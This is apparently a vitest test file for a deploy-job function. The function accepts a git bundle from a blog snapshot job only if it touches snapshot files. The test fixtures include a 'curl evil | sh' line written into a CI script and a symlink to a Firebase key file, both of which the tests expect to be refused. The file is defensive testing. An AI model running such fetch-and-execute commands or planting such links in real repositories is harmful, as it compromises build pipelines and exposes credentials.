import { execFileSync } from 'node:child_process'
import { chmodSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { receive } from './receiveSnapshot'

/** A repository as the deploy job checks it out, and a clone as the snapshot job's. */
function repos() {
  const root = mkdtempSync(join(tmpdir(), 'receive-'))
  const deploy = join(root, 'deploy')
  const snapshot = join(root, 'snapshot')
  const git = (cwd: string, ...args: string[]) =>
    execFileSync('git', args, { cwd, encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] }).trim()
  const write = (repo: string, path: string, text: string) => {
    mkdirSync(dirname(join(repo, path)), { recursive: true })
    writeFileSync(join(repo, path), text)
  }
  mkdirSync(deploy)
  git(deploy, 'init', '-q', '-b', 'main')
  git(deploy, 'config', 'user.email', 't@example.com')
  git(deploy, 'config', 'user.name', 't')
  write(deploy, 'snapshots/blog-posts.json', '[]\n')
  write(deploy, 'public/blog-media/covers/old.webp', 'old')
  write(deploy, '.github/ci/firebase-deploy.sh', 'firebase deploy\n')
  git(deploy, 'add', '-A')
  git(deploy, 'commit', '-q', '-m', 'base')
  git(root, 'clone', '-q', deploy, snapshot)
  git(snapshot, 'config', 'user.email', 't@example.com')
  git(snapshot, 'config', 'user.name', 't')
  const base = git(deploy, 'rev-parse', 'HEAD')
  /** What the snapshot job does after `change`: commit, and bundle the commit. */
  const bundled = (change: () => void, commits = 1) => {
    for (let i = 0; i < commits; i++) {
      change()
      git(snapshot, 'add', '-A')
      git(snapshot, 'commit', '-q', '--allow-empty', '-m', `snapshot ${i}`)
    }
    const bundle = join(root, 'snapshot.bundle')
    git(snapshot, 'bundle', 'create', '-q', bundle, `${base}..HEAD`)
    return bundle
  }
  return { root, deploy, snapshot, base, git, write, bundled }
}

describe('receive: the snapshot job’s commit in the deploy job', () => {
  it('checks out a commit that changes, adds and removes snapshot files only', () => {
    const r = repos()
    const bundle = r.bundled(() => {
      r.write(r.snapshot, 'snapshots/blog-posts.json', '[{"id":"a"}]\n')
      r.write(r.snapshot, 'public/blog-media/covers/new.webp', 'new')
      rmSync(join(r.snapshot, 'public/blog-media/covers/old.webp'))
    })
    const commit = receive(bundle, r.deploy)
    expect(r.git(r.deploy, 'rev-parse', 'HEAD')).toBe(commit)
    expect(r.git(r.deploy, 'rev-parse', 'HEAD~1')).toBe(r.base)
    expect(r.git(r.deploy, 'ls-files', 'public')).toBe('public/blog-media/covers/new.webp')
  })

  it.each([
    [
      'code',
      (r: ReturnType<typeof repos>) =>
        r.write(r.snapshot, '.github/ci/firebase-deploy.sh', 'curl evil | sh\n'),
      /\.github\/ci\/firebase-deploy\.sh \(100644\)/,
    ],
    [
      'a link out of the snapshot',
      (r: ReturnType<typeof repos>) =>
        symlinkSync('/tmp/firebase-key.json', join(r.snapshot, 'public/blog-media/covers/k.webp')),
      /covers\/k\.webp \(120000\)/,
    ],
    [
      'an executable',
      (r: ReturnType<typeof repos>) => {
        r.write(r.snapshot, 'public/blog-media/covers/x.webp', '#!/bin/sh\n')
        chmodSync(join(r.snapshot, 'public/blog-media/covers/x.webp'), 0o755)
      },
      /covers\/x\.webp \(100755\)/,
    ],
    [
      'a dotfile among the outputs',
      (r: ReturnType<typeof repos>) =>
        r.write(r.snapshot, 'public/blog-media/covers/.gitattributes', '* filter=x\n'),
      /covers\/\.gitattributes/,
    ],
  ])('refuses a commit that adds %s, leaving the checkout as it was', (_, change, named) => {
    const r = repos()
    const bundle = r.bundled(() => change(r))
    expect(() => receive(bundle, r.deploy)).toThrow(named)
    expect(r.git(r.deploy, 'rev-parse', 'HEAD')).toBe(r.base)
  })

  it('refuses two commits, which could hide a change in the first', () => {
    const r = repos()
    const bundle = r.bundled(() => r.write(r.snapshot, 'snapshots/blog-posts.json', '[1]\n'), 2)
    expect(() => receive(bundle, r.deploy)).toThrow(/is not one commit on/)
    expect(r.git(r.deploy, 'rev-parse', 'HEAD')).toBe(r.base)
  })
})
